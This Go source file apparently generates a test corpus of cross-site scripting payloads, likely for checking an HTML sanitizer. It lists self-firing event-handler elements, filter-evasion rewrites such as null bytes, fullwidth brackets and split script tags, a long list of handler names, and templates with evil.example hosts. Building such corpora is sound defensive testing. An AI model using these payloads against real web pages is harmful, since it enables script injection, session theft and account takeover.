package hostile

import (
	_ "embed"
	"strings"
)

// firing are elements with a handler that a browser calls by itself: "%" is the
// script.
var firing = lines(`
<img src=x onerror=%>
<img src=x onloadend=% onerror=%>
<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload=%>
<image src=x onerror=%>
<svg onload=%>
<svg><g onload=%></g></svg>
<svg><animate onbegin=% attributeName=x dur=1s>
<svg><animate onend=% attributeName=x dur=0.01s></svg>
<svg><set onbegin=% attributeName=x></svg>
<svg><animateTransform onbegin=% attributeName=transform></svg>
<svg><image href=x onerror=%></svg>
<svg><script>%</script></svg>
<svg><script href="data:,%"></script></svg>
<svg><foreignObject><img src=x onerror=%></foreignObject></svg>
<math><mtext><img src=x onerror=%></mtext></math>
<math><mi><svg onload=%></mi></math>
<body onload=%>
<body onpageshow=%>
<body onresize=% onscroll=% onhashchange=% onmessage=% onfocus=%>
<frameset onload=%><frame></frameset>
<iframe onload=%></iframe>
<iframe src=x onload=%></iframe>
<iframe srcdoc="<script>%</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=%&gt;"></iframe>
<object data=x onerror=%></object>
<object data="data:," onload=%></object>
<embed src="data:," onload=%>
<video onloadstart=% src=x></video>
<video src=x onerror=%></video>
<video><source src=x onerror=%></video>
<audio src=x onerror=%></audio>
<audio onloadstart=% src="data:,"></audio>
<video><track default src="data:," onerror=%></video>
<input autofocus onfocus=%>
<input type=image src=x onerror=%>
<select autofocus onfocus=%><option>x</select>
<textarea autofocus onfocus=%>x</textarea>
<button autofocus onfocus=%>x</button>
<keygen autofocus onfocus=%>
<a href=# autofocus onfocus=% tabindex=1>x</a>
<b tabindex=1 autofocus onfocus=%>x</b>
<b contenteditable autofocus onfocusin=%>x</b>
<div autofocus tabindex=0 onfocus=%>x</div>
<details open ontoggle=%><summary>x</summary>y</details>
<details ontoggle=% open><p>x</details>
<marquee onstart=%>x</marquee>
<marquee width=1 loop=1 onfinish=%>x</marquee>
<style onload=%>p{}</style>
<link rel=stylesheet href="data:text/css," onload=%>
<link rel=stylesheet href=x onerror=%>
<script>%</script>
<script src=x onerror=%></script>
<script src="data:,%"></script>
<script type=module>%</script>
<script type=text/vbscript language=vbscript>%</script>
<script language=javascript1.2>%</script>
<script>/*<!--*/%//--></script>
<xss style="animation:x 1s" onanimationstart=%>x</xss><style>@keyframes x{}</style>
<p style="animation:x 1s" onanimationstart=%>x</p><style>@keyframes x{from{left:0}to{left:1px}}</style>
<p oncontentvisibilityautostatechange=% style="display:block;content-visibility:auto">x</p>
<dialog open onclose=% oncancel=%>x</dialog>
<div popover onbeforetoggle=% ontoggle=% id=p>x</div><button popovertarget=p autofocus>x</button>
<form onformdata=% oninput=% onsubmit=%><input type=submit></form>
<template shadowrootmode=open><img src=x onerror=%></template>
<div><template shadowrootmode=open><script>%</script></template></div>
<applet onerror=% code=x></applet>
<bgsound src=x onerror=%>
<isindex onfocus=% autofocus>
<x onclick=% onmouseover=%>x</x>
<meter onmouseover=%>x</meter>
<table><td onmouseover=%>x</td></table>
<a onclick=% href=https://example.com/>x</a>
<font onmouseenter=% color=red>x</font>
<ul><li onclick=%>x</ul>
<blockquote onpointerover=%>x</blockquote>
`)

// spellings change how an element with a handler is written; the browser reads
// most of them as the same.
var spellings = []func(string) string{
	func(s string) string { return s },
	strings.ToUpper,
	func(s string) string { return strings.ReplaceAll(s, " ", "/") },
	func(s string) string { return strings.ReplaceAll(s, " on", "\non") },
	func(s string) string { return strings.ReplaceAll(s, " on", "\fon") },
	func(s string) string { return strings.ReplaceAll(s, " on", "/ / on") },
	func(s string) string { return strings.ReplaceAll(s, " on", ` x="<" on`) },
	func(s string) string { return strings.ReplaceAll(s, " on", ` "on="x" on`) },
	func(s string) string { return strings.ReplaceAll(s, " on", ` title='"' on`) },
	func(s string) string { return strings.ReplaceAll(s, "=ran", " = \t\nran") },
	func(s string) string { return strings.ReplaceAll(s, "=ran", "=&#114;an") },
	func(s string) string { return "<" + s },
	func(s string) string { return `">` + s },
	func(s string) string { return "'>" + s },
	func(s string) string { return "</p></div></td></table>" + s },
	func(s string) string { return s + "</body></html>" + s },
	func(s string) string { return strings.ReplaceAll(s, "<", "<\x00") },
	func(s string) string { return strings.ReplaceAll(s, " on", " \x00on") },
	func(s string) string { return strings.ReplaceAll(s, "<", "\uff1c") },
	func(s string) string { return strings.ReplaceAll(s, "<", "&lt;") },
	func(s string) string { return strings.ReplaceAll(s, "<", "&LT") },
	func(s string) string { return strings.ReplaceAll(s, ">", "") },
	func(s string) string { return strings.Replace(s, ">", " <b>", 1) },
	func(s string) string { return strings.ReplaceAll(s, "<script", "<scr<script>ipt") },
}

// events are the names of handlers that browsers know, and some that they knew.
var events = strings.Fields(`onabort onactivate onafterprint onafterscriptexecute onanimationcancel onanimationend
	onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforepaste
	onbeforeprint onbeforescriptexecute onbeforetoggle onbeforeunload onbegin onblur onbounce oncancel oncanplay
	oncanplaythrough onchange onclick onclose oncommand oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend
	ondragenter ondragexit ondragleave ondragover ondragstart ondrop ondurationchange onemptied onend onended onerror
	onfilterchange onfinish onfocus onfocusin onfocusout onformdata onfullscreenchange ongesturestart ongotpointercapture
	onhashchange oninput oninvalid onkeydown onkeypress onkeyup onlanguagechange onload onloadeddata onloadedmetadata
	onloadend onloadstart onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout
	onmouseover onmouseup onmousewheel onmozfullscreenchange onoffline ononline onpagehide onpageshow onpaste onpause onplay
	onplaying onpointerdown onpointerenter onpointerover onpointerrawupdate onpointerup onpopstate onpropertychange
	onprogress onratechange onreadystatechange onrepeat onreset onresize onscroll onscrollend onscrollsnapchange onsearch
	onsecuritypolicyviolation onseeked onseeking onselect onselectionchange onselectstart onshow onslotchange onstalled
	onstart onstorage onsubmit onsuspend ontimeupdate ontoggle ontouchstart ontransitionend ontransitionrun onunhandledrejection
	onunload onvolumechange onwaiting onwebkitanimationstart onwebkittransitionend onwheel on onx onERROR oNcLiCk fscommand
	seeksegmenttime xml:onclick data-onclick`)

func (c *corpus) handlers() {
	for _, element := range firing {
		for _, spell := range spellings {
			c.add("handler", func(p place) string {
				s := spell(strings.ReplaceAll(element, "%", p.js))
				return strings.NewReplacer("RAN(", "ran(").Replace(s)
			})
		}
	}
	for _, event := range events {
		for _, element := range []string{"<b %>x</b>", "<a href=https://example.com/ %>x</a>", "<img src=x %>", "<svg %></svg>", "<table><td %>x</td></table>", "<xss tabindex=1 %>x</xss>"} {
			c.add("handler", func(p place) string { return strings.ReplaceAll(element, "%", event+"="+p.js) })
		}
	}
}

//go:embed shapes.html
var shapes string

// shapes are attacks that no product of lists makes.
func (c *corpus) shapes() {
	for i, s := range strings.Split(strings.TrimSpace(shapes), "\n<") {
		if i > 0 {
			s = "<" + s
		}
		for _, around := range []string{"%s", "<table><tr><td>%s</table>", "<p>a%s b</p>", `<a href="https://example.com/">%s</a>`,
			"<select>%s</select>", "<svg>%s</svg>", "<math>%s</math>", "<b><i>%s</b></i>", "<title>%s", "<!--x-->%s<!--", "<ul><li>%s</ul>"} {
			c.add("shape", func(p place) string {
				s := strings.NewReplacer("https://evil.example/", p.url+"/", "https://evil.example", p.url, "//evil.example", "//"+p.host,
					"evil.example", p.host, "alert(1)", p.js).Replace(s)
				return strings.Replace(around, "%s", s, 1)
			})
		}
	}
}
